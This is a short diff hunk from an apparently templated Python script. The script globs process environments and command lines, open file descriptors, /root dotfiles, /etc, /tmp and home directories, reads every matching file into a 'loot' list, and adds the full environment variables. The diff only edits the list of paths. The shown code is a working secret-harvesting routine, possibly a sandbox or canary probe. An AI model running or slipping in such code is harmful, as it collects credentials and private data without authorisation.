@@ -590,9 +590,9 @@ def take(path):
     except OSError: pass
 PLANTED = %r
 for path in PLANTED: take(path)
-for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*", "/proc/*/root/work/*",
+for pattern in ("/proc/*/environ", "/proc/*/cmdline", "/proc/*/cwd/*", "/proc/*/root/home/*",
                 "/proc/*/fd/*", "/home/*/*", "/root/*", "/root/.*", "/tmp/*", "/tmp/*/*", "/etc/*",
-                "/var/*/*", "/work/*", "/run/*", "/dev/shm/*", "/srv/*", "/opt/*", "/mnt/*"):
+                "/var/*/*", "/run/*", "/dev/shm/*", "/srv/*", "/opt/*", "/mnt/*"):
     for path in glob.glob(pattern):
         if os.path.isfile(path): take(path)
 loot.append(repr(dict(os.environ)))
